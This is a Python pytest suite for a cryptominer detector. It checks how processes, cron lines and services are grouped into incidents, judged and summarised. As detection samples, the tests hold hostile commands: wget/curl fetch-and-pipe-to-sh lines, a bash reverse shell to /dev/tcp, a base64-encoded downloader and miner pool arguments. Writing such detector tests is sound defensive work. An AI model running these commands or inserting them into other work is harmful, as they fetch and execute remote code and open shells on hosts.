"""Findings become incidents: one per gang, with who is in it, what starts it again, what it cost and whom it slowed."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import msgspec
import pytest
from tests.unit.snapshots import (
    PYENV,
    TAKEN,
    TTY,
    Fact,
    autostarts,
    connection,
    cron,
    detail,
    executable,
    incident_of,
    judged,
    known_file,
    listener,
    pids,
    process,
    renewal,
    service,
    snapshot,
    timer,
)

from davy.correlate import correlate
from davy.detect import detect
from davy.model.autostarts import Autostart
from davy.model.facts import Gap, Process, Restart
from davy.model.incidents import Kind, Role, Verdict

DASH, BASH, PYTHON = "/usr/bin/dash", "/usr/bin/bash", "/usr/bin/python3.11"
GROUP = "/system.slice/cron.service"
FETCH = "wget -q -O - http://203.0.113.9/unk.sh | sh > /dev/null 2>&1"
POOL = ("101.32.166.253", 3333)


def miner(pid: int = 300, path: str = "/tmp/kdevtmpfsi", **options: Any) -> Process:
    return process(pid, path, **{"cores": 1.0, **options})


# Verdicts on what runs


@pytest.mark.parametrize("age", [2.0, 30.0, 86_400.0])
@pytest.mark.parametrize(
    ("facts", "verdict"),
    [
        ((lambda age: miner(age=age),), Verdict.CONFIRMED),
        ((lambda age: miner(path="/tmp/abcd", age=age),), Verdict.SUSPECT),
        ((lambda age: miner(path="/opt/netd", age=age, deleted=True),), Verdict.SUSPECT),
        ((lambda age: process(300, "x", exe="/memfd:x", memory_only=True, cores=1.0, age=age),), Verdict.SUSPECT),
        (
            (lambda age: process(300, "/usr/sbin/sshd", exe="/tmp/tplink", deleted=True, cores=1.0, age=age),),
            Verdict.CONFIRMED,
        ),
        ((lambda age: process(300, "[kworker/0:1]", exe="/opt/x", cores=1.0, age=age),), Verdict.SUSPECT),
        ((lambda age: process(300, "[kworker/0:1]", exe="/dev/shm/x", cores=1.0, age=age),), Verdict.CONFIRMED),
    ],
)  # fmt: skip
def test_a_fresh_miner_is_judged_as_an_old_one(facts: tuple[Any, ...], verdict: Verdict, age: float) -> None:
    (make,) = facts
    assert judged(snapshot(make(age))).verdict is verdict


@pytest.mark.parametrize("waited", [0.0, 0.7])
def test_one_that_the_cpus_have_no_time_for_is_judged_as_one_that_burns(waited: float) -> None:
    starved = process(300, "/tmp/abcd", cores=1.0 - waited, life_cores=1.0 - waited, waited=waited, age=1000)
    given = detail(starved, waited_seconds=waited * 1000)
    assert judged(snapshot(starved, given)).verdict is Verdict.SUSPECT


def test_a_burner_in_tmp_that_is_a_packaged_program_under_another_name_is_not_clean() -> None:
    copy = process(300, "/tmp/abcd", "speed", cores=1.0, age=4.0)
    given = detail(copy, program=executable("/tmp/abcd", twin="/usr/bin/openssl"))
    assert judged(snapshot(copy, given)).verdict is Verdict.CONFIRMED


def test_a_miner_under_ever_new_pids_is_not_clean() -> None:
    words = ("/tmp/abcd", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "nobody", "--donate-level=1")
    renewing = process(300, *words, in_window=False, age=0.01)
    assert judged(snapshot(renewing, renewal("/tmp/abcd"))).verdict is Verdict.CONFIRMED


def test_an_unknown_program_that_keeps_a_pool_busy_is_confirmed() -> None:
    netd = process(300, "/usr/local/bin/netd", cores=3.0, age=5000)
    assert judged(snapshot(netd)).verdict is Verdict.CLEAN
    assert judged(snapshot(netd, connection(netd, *POOL))).verdict is Verdict.CONFIRMED


@pytest.mark.parametrize(
    "words",
    [("/tmp/python3", "/home/ada/notes.txt"), ("/dev/shm/bash", "x.conf"), ("/tmp/sh",), ("/tmp/java", "-c", "w")],
)
def test_a_miner_that_bears_an_interpreter_s_name_is_judged_by_its_own_place(words: tuple[str, ...]) -> None:
    found = incident_of(snapshot(process(300, *words, cores=1.0), cron(" ".join(words))))
    assert found.verdict is Verdict.CONFIRMED
    (actor,) = (actor for actor in found.actors if actor.pid)
    assert actor.files == (words[0],), "never what it names as an argument"
    assert len(autostarts(found)) == 1


# Honest work


SHELL = process(50, "-bash", exe=BASH, user="ada", tty=TTY, session=50)
TYPED: dict[str, Any] = {"ppid": 50, "user": "ada", "tty": TTY, "session": 50}
PYTEST = process(60, "python3", "-m", "pytest", exe=PYENV)
HONEST: dict[str, tuple[Fact, ...]] = {
    "openssl speed": tuple(
        process(pid, "openssl", "speed", "-multi", "2", exe="/usr/bin/openssl", cores=1.0) for pid in (300, 301)
    ),
    "xz": (process(300, "xz", "-T0", "x", exe="/usr/bin/xz", cores=3.9, threads=4),),
    "a compile": (
        process(60, "make", "-j4", exe="/usr/bin/make"),
        process(61, "gcc", "-c", "/tmp/x.c", "-o", "/tmp/x.o", exe="/usr/bin/x86_64-linux-gnu-gcc-12", ppid=60),
        process(300, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/tmp/x.c", ppid=61, cores=1.0, age=2.0),
    ),
    "many short compiles": (
        process(300, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "x.c", in_window=False, age=0.1),
        renewal("/usr/lib/gcc/x86_64-linux-gnu/12/cc1"),
    ),
    "a training run of a person": (SHELL, process(300, "python3", "/tmp/train.py", exe=PYENV, cores=4.0, **TYPED)),
    "a training run": (process(300, "python3", "/home/ada/train.py", exe=PYENV, cores=4.0),),
    "a training run in /tmp": (process(300, "python3", "/tmp/train.py", exe=PYENV, cores=4.0, age=90_000),),
    "a training run with the distribution's python": (process(300, "python3", "/tmp/train.py", exe=PYTHON, cores=4.0),),
    "a training run in a hidden folder of /tmp": (process(300, "python3", "/tmp/.ada/train.py", exe=PYENV, cores=4.0),),
    "a training run that pytest started": (
        PYTEST,
        process(300, "python3", "/tmp/pytest-of-ada/pytest-0/test_x0/train.py", exe=PYENV, cores=1.0, ppid=60),
    ),
    "a training run that pytest started through a shell": (
        PYTEST,
        process(61, "sh", "-c", "nice python3 /tmp/pytest-of-ada/pytest-0/train.py; true", exe=DASH, ppid=60),
        process(300, "python3", "/tmp/pytest-of-ada/pytest-0/train.py", exe=PYENV, cores=1.0, ppid=61),
    ),
    "a training run with workers": (
        process(300, "python3", "/tmp/train.py", exe=PYENV, cores=0.1),
        *(process(pid, "python3", "/tmp/train.py", exe=PYENV, cores=1.0, ppid=300, session=300) for pid in (301, 302)),
    ),
    "a training run as a service": (
        process(300, "python3", "/tmp/train.py", exe=PYENV, cores=4.0, cgroup="/system.slice/train.service"),
        service(f"{PYENV} /tmp/train.py", unit="train.service"),
    ),
    "a training run from cron": (
        process(300, "python3", "/tmp/train.py", exe=PYENV, cores=4.0),
        cron("python3 /tmp/train.py", user="ada", schedule="0 1 * * *"),
    ),
    "a service of a person's own that was replaced while it ran": (
        process(300, "/opt/app/server", cores=1.0, deleted=True),
        service("/opt/app/server --port 80", unit="app.service"),
    ),
    "a packaged service that was upgraded while it ran": (
        process(300, "/usr/sbin/mariadbd", cores=2.0, deleted=True),
        service("/usr/sbin/mariadbd", unit="mariadb.service", vendor="mariadb-server"),
    ),
    "a program that lies at home": (process(300, "/home/ada/bin/simulate", cores=4.0),),
    "a program in a hidden folder at home": (process(300, "/home/ada/.simulator/bin/simulate", cores=4.0),),
    "a database": (process(300, "postgres: ada db", exe="/usr/lib/postgresql/15/bin/postgres", cores=1.0),),
    "a container's database": (process(300, "postgres: ada db", exe="/usr/local/bin/postgres", cores=1.0),),
    "a container's cron": (process(300, "crond", "-f", exe="/bin/busybox", name="crond", cores=0.6),),
    "a web server on port 3333": (
        web := process(300, "node", "/srv/app/server.js", exe="/home/ada/.nvm/versions/node/v20/bin/node", cores=1.0),
        listener(web, 3333),
    ),
    "a test in /tmp that a person runs": (SHELL, process(300, "/tmp/go-build1/b001/x.test", cores=2.0, **TYPED)),
    "an idle program in /tmp": (process(300, "/tmp/build/server"),),
    "an owner's proxy for miners": (proxy := process(300, "/opt/xmrig-proxy"), listener(proxy, 3333)),
}  # fmt: skip


@pytest.mark.parametrize("work", list(HONEST))
def test_honest_work_is_clean(work: str) -> None:
    found = judged(snapshot(*HONEST[work]))
    assert [incident.summary for incident in found.incidents] == []
    assert (found.verdict, found.complete) == (Verdict.CLEAN, True)


@pytest.mark.parametrize("work", list(HONEST))
def test_honest_work_beside_a_miner_is_no_actor(work: str) -> None:
    for incident in judged(snapshot(*HONEST[work], miner(900))).incidents:
        assert pids(incident) == {900}
        assert autostarts(incident) == []


def test_what_was_looked_at_and_let_go_is_told_with_what_speaks_for_and_against() -> None:
    busy = process(300, "xz", "-T0", "x", exe="/usr/bin/xz", cores=3.9)
    train = process(310, "python3", "/tmp/train.py", exe=PYENV, cores=4.0)
    sleeper = process(320, "/usr/bin/sleep", "9")
    found = {one.subject: one for one in judged(snapshot(busy, train, sleeper, miner(900))).considered}
    assert found.keys() == {busy.subject, train.subject}
    assert {finding.rule for finding in found[busy.subject].findings} == {"behaviour.cpu-load", "trust.packaged"}
    assert found[busy.subject].bits == -3.0
    assert found[busy.subject].name == "xz (300)"
    assert {finding.rule for finding in found[train.subject].findings} == {
        "behaviour.cpu-load", "origin.writable-folder",
    }  # fmt: skip


# Who belongs together


def test_several_miners_of_one_program_are_one_incident() -> None:
    found = incident_of(snapshot(*(miner(pid, "/tmp/abcd") for pid in (300, 301, 302)), process(303, "/tmp/abcd")))
    assert pids(found, Role.MINER) == {300, 301, 302, 303}


def test_a_miner_that_waits_for_its_workers_is_a_miner_too() -> None:
    boss = process(300, "/tmp/abcd")
    found = incident_of(snapshot(boss, *(miner(pid, "/tmp/abcd", ppid=300) for pid in (301, 302))))
    assert (pids(found, Role.MINER), pids(found, Role.GUARDIAN)) == ({300, 301, 302}, set())


def test_guardian_miners_and_their_autostart_are_one_incident() -> None:
    kinsing = process(200, "/var/tmp/kinsing", cgroup=GROUP, user="nobody")
    gang = [miner(pid, cgroup=GROUP, user="nobody") for pid in (300, 301)]
    found = incident_of(
        snapshot(kinsing, *gang, cron("/var/tmp/kinsing", user="nobody"), cron(FETCH, user="nobody", line=2))
    )
    assert (pids(found, Role.MINER), pids(found, Role.GUARDIAN)) == ({300, 301}, {200})
    assert [actor.line for actor in autostarts(found)] == [1, 2]


def test_two_programs_of_one_guardian_are_one_incident() -> None:
    boss = process(200, "/var/tmp/bossy")
    found = incident_of(snapshot(boss, miner(300, "/tmp/abcd", ppid=200), miner(310, "/dev/shm/wxyz", ppid=200)))
    assert (pids(found, Role.MINER), pids(found, Role.GUARDIAN)) == ({300, 310}, {200})


def test_two_gangs_that_have_nothing_to_do_with_each_other_stay_apart() -> None:
    one = (process(200, "/var/tmp/kinsing", cgroup="/a"), miner(300, cgroup="/a"))
    other = (process(400, "/dev/shm/chief", user="www-data"), miner(500, "/dev/shm/wxyz", user="www-data", ppid=400))
    lines = (cron("/var/tmp/kinsing"), cron("/dev/shm/chief", user="www-data"))
    first, second = judged(snapshot(*one, *other, *lines)).incidents
    assert {frozenset(pids(first)), frozenset(pids(second))} == {frozenset({200, 300}), frozenset({400, 500})}
    for incident in (first, second):
        assert len(autostarts(incident)) == 1
        assert incident.slowed == ()
    assert {first.family, second.family} == {"kinsing", None}


def test_two_miners_whose_program_cannot_be_read_stay_apart() -> None:
    one = process(300, exe=None, name="kdevtmpfsi", cores=1.0, user="www-data")
    other = process(400, exe=None, name="minerd", cores=1.0, user="nobody")
    assert sorted(pids(incident) for incident in judged(snapshot(one, other)).incidents) == [{300}, {400}]


def test_two_inline_texts_of_one_interpreter_stay_apart() -> None:
    words = ("--donate-level=1", "-o", "stratum+tcp://192.0.2.1:3333")
    one = process(300, "python3", "-c", "mine()", *words, exe=PYENV, cores=1.0)
    other = process(400, "python3", "-c", "mine2()", *words, exe=PYENV, cores=1.0)
    innocent = process(500, "python3", "-c", "import torch", exe=PYENV, cores=1.0)
    found = judged(snapshot(one, other, innocent)).incidents
    assert sorted(pids(incident) for incident in found) == [{300}, {400}]


def test_two_scripts_that_are_only_open_files_stay_apart() -> None:
    words = ("bash", "/dev/fd/63", "--donate-level=1", "-o", "stratum+tcp://192.0.2.1:3333")
    one, other = (process(pid, *words, exe=BASH, cores=1.0) for pid in (300, 400))
    found = judged(snapshot(one, other)).incidents
    assert sorted(pids(incident) for incident in found) == [{300}, {400}]
    assert [actor.files for incident in found for actor in incident.actors] == [(), ()]


def test_two_containers_programs_of_one_path_are_not_one_program() -> None:
    guilty, innocent = process(300, "/usr/local/bin/app", cores=1.0), process(400, "/usr/local/bin/app", cores=1.0)
    files = [executable("/usr/local/bin/app"), msgspec.structs.replace(executable("/usr/local/bin/app"), inode=9)]
    details = [detail(each, program=file) for each, file in zip((guilty, innocent), files, strict=True)]
    found = incident_of(snapshot(guilty, innocent, *details, connection(guilty, *POOL)))
    assert pids(found) == {300}


def test_the_family_is_the_one_that_most_bits_speak_for() -> None:
    assert incident_of(snapshot(miner())).family == "kinsing"
    assert incident_of(snapshot(miner(path="/tmp/abcd"))).family is None
    both = snapshot(miner(path="/tmp/minerd"), cron("/tmp/minerd; true"))
    assert incident_of(both).family == "minerd-tplink"


def test_the_worst_incident_comes_first() -> None:
    found = judged(snapshot(miner(200, "/tmp/abcd"), miner(300, cgroup="/b"))).incidents
    assert [incident.verdict for incident in found] == [Verdict.CONFIRMED, Verdict.SUSPECT]


# Autostarts


def test_an_autostart_is_told_with_its_file_its_line_its_command_and_its_user() -> None:
    line = cron("/tmp/kdevtmpfsi -q", user="nobody", line=7)
    (actor,) = autostarts(
        incident_of(snapshot(miner(user="nobody"), cron("/usr/bin/true", user="nobody", line=6), line))
    )
    assert (actor.kind, actor.subject, actor.pid) == (Kind.AUTOSTART, line.subject, None)
    assert (actor.path, actor.line) == ("/var/spool/cron/crontabs/nobody", 7)
    assert (actor.command, actor.user) == ("/tmp/kdevtmpfsi -q", "nobody")


def test_a_unit_brings_the_timer_that_activates_it() -> None:
    found = incident_of(
        snapshot(
            miner(),
            service("/tmp/kdevtmpfsi", unit="x.service"),
            timer("x.timer", "x.service"),
            timer("y.timer", "y.service"),
        )
    )
    assert [actor.name for actor in autostarts(found)] == ["x.service", "x.timer"]


@pytest.mark.parametrize(
    "innocent",
    [
        cron("/usr/bin/restic backup /srv", line=2),
        cron("/tmp/nightly.sh", line=2, schedule="0 3 * * *"),
        cron("pkill -f /tmp/kdevtmpfsi; rm -f /tmp/kdevtmpfsi", line=2),
        cron("python3 /tmp/train.py", line=2),
        cron(FETCH, user="ada"),
        service("/tmp/zzz.sh", unit="snooze.service"),
        service("/usr/sbin/nginx", unit="nginx.service", vendor="nginx"),
    ],
    ids=lambda one: one.command if isinstance(one, Autostart) else None,
)
def test_other_people_s_autostarts_are_left_alone(innocent: Autostart) -> None:
    found = judged(snapshot(miner(), cron("/tmp/kdevtmpfsi"), innocent)).incidents[0]
    assert [actor.command for actor in autostarts(found)] == ["/tmp/kdevtmpfsi"]


@pytest.mark.parametrize(
    "guilty",
    [
        cron(FETCH, line=2),
        cron("/var/tmp/kinsing", user="ada"),
        cron("/tmp/.X25/a/upd", line=2),
        service("/tmp/.X25/a/watch", unit="net.service", user="ada"),
    ],
    ids=lambda one: one.command if isinstance(one, Autostart) else None,
)
def test_what_fetches_the_gang_or_lies_in_its_own_folder_is_of_the_gang(guilty: Autostart) -> None:
    found = incident_of(snapshot(miner(path="/tmp/.X25/a/kdevtmpfsi"), guilty))
    assert [actor.command for actor in autostarts(found)] == [guilty.command]


def test_an_autostart_may_wait_while_nothing_runs() -> None:
    line = cron("/var/tmp/kinsing >/dev/null 2>&1", user="nobody")
    found = incident_of(snapshot(line, process(300, "/usr/bin/sleep", "9")))
    assert (found.verdict, found.family, pids(found)) == (Verdict.CONFIRMED, "kinsing", set())
    assert [actor.subject for actor in found.actors] == [line.subject]
    assert found.findings
    assert found.cpu_hours == 0.0


def test_autostarts_of_one_family_that_wait_are_one_incident_and_others_are_not() -> None:
    lines = [cron("/var/tmp/kinsing", user=user) for user in ("nobody", "www-data")]
    other = cron("/tmp/minerd", user="ada")
    found = judged(snapshot(*lines, other)).incidents
    assert sorted(len(incident.actors) for incident in found) == [1, 2]
    assert {incident.summary.partition(": ")[0] for incident in found} == {
        "A miner of Kinsing (kdevtmpfsi) is started by 2 autostarts, and does not run now",
        "A miner of minerd and tplink is started by 1 autostart, and does not run now",
    }
    assert all(" (cron, every minute, as " in incident.summary for incident in found)


@pytest.mark.parametrize(
    "line",
    [
        cron("curl -fsSL https://get.example.org/agent.sh | sh"),
        cron("/tmp/nightly.sh"),
        service("/tmp/build/server"),
        cron("wget -q -O /srv/list.gz http://192.0.2.7/list.gz"),
        cron("echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUub3JnL3g= | base64 -d | sh"),
    ],
)
def test_an_autostart_of_which_only_one_thing_is_odd_is_told_as_considered(line: Autostart) -> None:
    found = judged(snapshot(line))
    assert (found.verdict, [one.subject for one in found.considered]) == (Verdict.CLEAN, [line.subject])


@pytest.mark.parametrize(
    "command",
    [
        FETCH,
        "curl -fsSL http://192.0.2.7/x.sh | sh",
        "(curl -fsSL https://example.org/x||wget -q -O- https://example.org/x)|bash",
        "curl -fsSL https://pastebin.com/raw/x1 | sh",
        "bash -i >& /dev/tcp/192.0.2.1/8443 0>&1",
        "/opt/x -o stratum+tcp://192.0.2.1:3333 -u w",
        "/dev/shm/.x/run",
    ],
)
def test_an_autostart_against_which_two_kinds_of_evidence_speak_is_an_incident(command: str) -> None:
    line = cron(command)
    incident = incident_of(snapshot(line))
    assert incident.verdict is not Verdict.CLEAN
    assert [actor.subject for actor in incident.actors] == [line.subject]


def test_a_guilty_line_in_a_packages_file_is_found_and_its_honest_lines_are_let_be() -> None:
    table = {"path": "/etc/crontab", "owner_package": "cron"}
    honest = cron("cd / && run-parts --report /etc/cron.hourly", line=3, unmodified=False, **table)
    added = cron("curl -fsSL http://192.0.2.7/x.sh | sh", line=9, unmodified=False, **table)
    assert [one.subject for one in autostarts(incident_of(snapshot(honest, added)))] == [added.subject]
    as_installed = msgspec.structs.replace(added, unmodified=True)
    assert judged(snapshot(honest, as_installed)).verdict is Verdict.CLEAN


# Remains


def test_a_file_that_nobody_runs_is_no_miner() -> None:
    remain = known_file("/tmp/kdevtmpfsi", "kinsing")
    found = judged(snapshot(remain))
    assert found.verdict is Verdict.CLEAN
    assert [(one.subject, one.name) for one in found.considered] == [(remain.subject, "/tmp/kdevtmpfsi")]


def test_the_family_s_other_files_go_with_a_gang() -> None:
    files = (known_file("/tmp/kdevtmpfsi", "kinsing"), known_file("/etc/libsystem.so", "kinsing"))
    found = incident_of(snapshot(miner(), *files))
    assert [(actor.kind, actor.path) for actor in found.actors if actor.kind is Kind.FILE] == [
        (Kind.FILE, "/etc/libsystem.so")
    ]


@pytest.mark.parametrize(
    "other", [known_file("/tmp/minerd", "minerd-tplink"), known_file("/lib/systemd/system/bot.service", "kinsing")]
)
def test_files_of_another_family_and_of_popular_names_do_not(other: Fact) -> None:
    assert [actor.kind for actor in incident_of(snapshot(miner(), other)).actors] == [Kind.PROCESS]


# What a person is told


def test_the_timeline_is_in_order_and_tells_each_source() -> None:
    kinsing = process(200, "/var/tmp/kinsing", cgroup=GROUP, age=4000)
    burner = miner(cgroup=GROUP, age=100)
    file = detail(burner, program=executable("/tmp/kdevtmpfsi", birth=TAKEN - 4500, mtime=TAKEN - 4400))
    found = incident_of(snapshot(burner, kinsing, file, cron("/var/tmp/kinsing")))
    assert [event.time for event in found.timeline] == sorted(event.time for event in found.timeline)
    told = [(event.what, event.source) for event in found.timeline]
    assert told.index(("/tmp/kdevtmpfsi was created", "birth time")) < told.index(
        ("kinsing (200) started", "process start")
    )
    assert told.index(("kinsing (200) started", "process start")) < told.index(
        ("/var/spool/cron/crontabs/root was last changed", "modification time")
    )
    assert told[-1] == ("kdevtmpfsi (300) started", "process start")
    assert len(told) == len(set(told))


def test_cpu_hours_are_those_of_every_actor_once() -> None:
    boss = msgspec.structs.replace(
        process(200, "/var/tmp/kinsing", cgroup=GROUP, age=7200, life_cores=0.5), children_cpu_seconds=1800.0
    )
    gang = [miner(pid, cgroup=GROUP, ppid=200, cores=2.0, age=3600) for pid in (300, 301)]
    found = incident_of(snapshot(boss, *gang))
    assert found.cpu_hours == pytest.approx(1.0 + 0.5 + 2.0 + 2.0)
    assert found.burning_cores == pytest.approx(4.0)


def test_a_process_with_two_roles_to_choose_from_counts_once() -> None:
    fetching = f"while :; do pidof abcd || (/tmp/abcd &); {FETCH}; sleep 9; done"
    boss = process(200, "sh", "-c", fetching, exe=DASH, age=3600, life_cores=1.0)
    found = incident_of(snapshot(boss, miner(path="/tmp/abcd", ppid=200), miner(310, "/tmp/wxyz", ppid=200)))
    assert sorted(actor.pid or 0 for actor in found.actors) == [200, 300, 310]
    assert found.cpu_hours == pytest.approx(3.0)


def test_a_text_that_no_shell_reads_makes_nobody_a_dropper() -> None:
    """A harness in Python that speaks of fetching, beside the gang and above it, as its person's test does."""
    harness = process(250, "python3", "-c", f"import os  # {FETCH}", exe=PYTHON, cgroup=GROUP, user="www-data")
    found = incident_of(snapshot(harness, miner(cgroup=GROUP, user="www-data", ppid=250)))
    assert harness.pid not in pids(found)


def test_a_dropper_is_whoever_fetches_for_the_gang() -> None:
    dropper = process(250, "sh", "-c", FETCH, exe=DASH, cgroup=GROUP, user="www-data")
    stranger = process(260, "sh", "-c", FETCH, exe=DASH, cgroup=GROUP, user="ada")
    found = incident_of(snapshot(dropper, stranger, miner(cgroup=GROUP, user="www-data")))
    assert (pids(found, Role.DROPPER), pids(found)) == ({250}, {250, 300})


def test_a_saved_snapshot_has_no_cost_and_is_not_complete() -> None:
    found = judged(snapshot(miner(), live=False))
    assert (found.incidents[0].cpu_hours, found.complete, found.live) == (None, False, False)


def test_what_could_not_be_read_of_processes_makes_it_incomplete() -> None:
    assert judged(snapshot()).complete
    assert judged(snapshot(Gap("cron", "/var/spool/cron", "not permitted"))).complete
    found = judged(snapshot(gap := Gap("processes", "executable", "not readable for 9 processes: not permitted")))
    assert (found.verdict, found.complete, found.gaps) == (Verdict.CLEAN, False, (gap,))


def test_the_owner_s_work_that_was_slowed_is_named_and_the_gang_s_is_not() -> None:
    train = process(400, "python3", "train.py", exe=PYENV, cores=0.4, waited=0.6, name="python3")
    build = process(410, "cc1", exe="/usr/bin/cc1", cores=0.6, waited=0.4)
    lazy = process(420, "/usr/bin/top", cores=0.01, waited=0.01)
    other = miner(500, "/dev/shm/wxyz", waited=0.5)
    first, second = judged(snapshot(miner(waited=0.5), other, train, build, lazy)).incidents
    for incident in (first, second):
        assert [(one.pid, one.name, round(one.share, 6)) for one in incident.slowed] == [
            (400, "python3", 0.4), (410, "cc1", 0.6),
        ]  # fmt: skip


def test_an_incident_keeps_its_id_when_pids_change() -> None:
    def scan(first: int, busiest: int) -> str:
        paths = ("/tmp/abcd", "/tmp/wxyz")
        boss = process(first, "/var/tmp/bossy", age=9.0 + first)
        gang = [
            miner(first + 1 + place, path, ppid=first, age=5.0, cores=2.0 if place == busiest else 1.0)
            for place, path in enumerate(paths)
        ]
        return incident_of(snapshot(boss, *gang)).id

    assert scan(200, 0) == scan(700, 1)


def test_ids_tell_gangs_and_hosts_apart() -> None:
    ids = {
        incident_of(snapshot(miner(path=path), name=name)).id
        for path in ("/tmp/abcd", "/tmp/kdevtmpfsi")
        for name in ("one", "other", None)
    }
    assert len(ids) == 6


def test_the_summary_names_miner_cost_guardian_and_autostarts() -> None:
    kinsing = process(200, "/var/tmp/kinsing", cgroup=GROUP)
    words = incident_of(snapshot(kinsing, miner(cgroup=GROUP, age=7200), cron("/var/tmp/kinsing"))).summary
    assert words.startswith("A miner runs: kdevtmpfsi (root), as Kinsing (kdevtmpfsi) does")
    assert "2 CPU hours" in words
    assert "kept alive by kinsing" in words
    assert words.endswith("started again by 1 autostart")
    assert incident_of(snapshot(miner(path="/tmp/abcd"))).summary.startswith("Perhaps a miner runs")


def test_judging_twice_says_the_same() -> None:
    shot = snapshot(process(200, "/var/tmp/bossy"), miner(path="/tmp/abcd", ppid=200), cron("/tmp/abcd"))
    findings = list(detect(shot))
    assert correlate(shot, findings) == correlate(shot, findings) == judged(shot)


# A host that defends itself


@pytest.mark.parametrize("kind", ["of one program", "of many programs", "in one long chain", "that all guard"])
def test_a_crowd_of_embers_is_judged_in_time(kind: str) -> None:
    """The limit is far above what it takes, and far below what a look at every pair would."""
    count = 3000
    paths: dict[str, Callable[[int], str]] = {
        "of one program": lambda _: "/tmp/abcd",
        "of many programs": lambda pid: f"/tmp/x{pid}",
        "in one long chain": lambda pid: f"/tmp/x{pid}",
        "that all guard": lambda pid: f"/tmp/x{pid}/kinsing",
    }
    crowd = [
        process(pid, paths[kind](pid), cores=1.0, cgroup=GROUP, ppid=pid - 1 if kind == "in one long chain" else 1)
        for pid in range(1000, 1000 + count)
    ]
    shot = snapshot(*crowd, *(Restart(each.key, "/tmp/abcd") for each in crowd[:50]))
    began = time.process_time()
    found = judged(shot)
    assert time.process_time() - began < 10.0
    assert {pid for incident in found.incidents for pid in pids(incident)} >= set(range(1000, 1000 + count))
